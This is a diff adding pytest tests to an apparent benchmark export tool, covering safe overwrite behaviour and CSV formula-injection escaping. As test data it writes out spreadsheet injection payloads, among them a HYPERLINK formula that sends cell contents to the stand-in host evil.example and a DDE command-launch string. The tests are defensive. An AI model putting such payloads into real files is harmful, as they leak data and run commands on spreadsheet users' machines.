@@ -73,6 +73,77 @@ def test_export_writes_the_release_files_and_lists_them(scored) -> None:
     assert sorted(p.name for p in out.iterdir()) == ["export_manifest.json", "single_actor_release.jsonl"]
 
 
+def test_export_overwrite_keeps_a_git_folder_and_files_in_its_subfolders(scored) -> None:
+    """`export --overwrite` replaced a folder holding `.git`, `.notes` and a user's file inside the release layout:
+    now it refuses naming the first of them and deletes nothing; its own export alone is replaced."""
+    import hashlib
+    import shutil
+    import subprocess
+
+    def tree(root: Path) -> dict[str, str]:
+        return {
+            str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() for p in root.rglob("*") if p.is_file()
+        }
+
+    out = scored["root"] / "outputs"
+    assert _export(scored, out).exit_code == 0
+    subprocess.run(["git", "init", "-q", str(out)], check=True)
+    (out / ".notes").write_text("mine\n")
+    (inner,) = {p.parent for p in out.rglob("*.csv") if "religion" in p.parts}
+    (inner / "my_analysis.csv").write_text("mine\n")
+    before = tree(out)
+    line = _one_line_error(_export(scored, out, "--overwrite"), ".git/", "nothing was replaced or deleted")
+    assert tree(out) == before, line
+    shutil.rmtree(out / ".git")
+    _one_line_error(_export(scored, out, "--overwrite"), ".notes")
+    (out / ".notes").unlink()
+    _one_line_error(_export(scored, out, "--overwrite"), "my_analysis.csv")
+    assert (inner / "my_analysis.csv").read_text() == "mine\n"
+    (inner / "my_analysis.csv").unlink()
+    assert _export(scored, out, "--overwrite").exit_code == 0
+
+
+def test_csv_cells_from_a_dataset_or_a_model_name_are_inert_in_a_spreadsheet(tmp_path: Path) -> None:
+    """Names from a dataset and a model name beginning with `=`, `+`, `-`, `@` were written verbatim into the
+    export's and the report's CSV files, where a spreadsheet runs them: every such text cell now begins with `'`.
+    Read back with the csv module, cell by cell, as a spreadsheet splits them."""
+    import csv
+
+    rng = np.random.default_rng(5)
+    rows = single_actor_rows(rng, scenarios=2)
+    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Liam")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]
+    for k, row in enumerate(rows[: len(evil)]):
+        row["name"] = evil[k]
+    model = "=cmd|'/C calc'!A0"
+    write_prompts(tmp_path / "prompts", {"single_actor_release": rows})
+    write_results(tmp_path / "results", "single_actor_release", result_rows(rows, rng, model=model), model=model)
+    scored = {"prompts": tmp_path / "prompts", "results": tmp_path / "results"}
+    out = tmp_path / "export"
+    assert _export(scored, out).exit_code == 0
+    report = tmp_path / "report"
+    analyzed = runner.invoke(
+        app, ["analyze", "--prompts", str(scored["prompts"]), "--results", str(scored["results"]), "--out", str(report)]
+    )
+    assert analyzed.exit_code == 0, analyzed.output
+    files = [*out.rglob("*.csv"), *report.rglob("*.csv")]
+    assert any(p.is_relative_to(report) for p in files) and any(p.is_relative_to(out) for p in files)
+    cells = [cell for path in files for line in csv.reader(path.open(newline="")) for cell in line]
+    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)]
+    assert not live, live[:5]
+    assert {"'" + name for name in evil} <= set(cells)
+    assert "'" + model in cells  # the model column of the export and of every report table
+    numbers = [cell for cell in cells if _is_number(cell) and cell.startswith("-")]
+    assert numbers  # negative numbers stay numbers
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
 @pytest.mark.parametrize(
     ("args", "words"),
     [
@@ -96,6 +167,8 @@ def test_prompts_the_results_were_not_scored_on_are_one_line(scored, tmp_path: P
     out = tmp_path / "outputs"
     line = _one_line_error(_export({**scored, "results": other}, out), "results_manifest.json", "fingerprint")
     assert "eeeeeeeeeeee" in line and "ffffffffffff" in line
+    # it advised --allow-fingerprint-mismatch, which export does not have: only what export can do
+    assert "--allow-fingerprint-mismatch" not in line and "rerun the model on these prompts" in line
     _nothing_written(out)
 
 
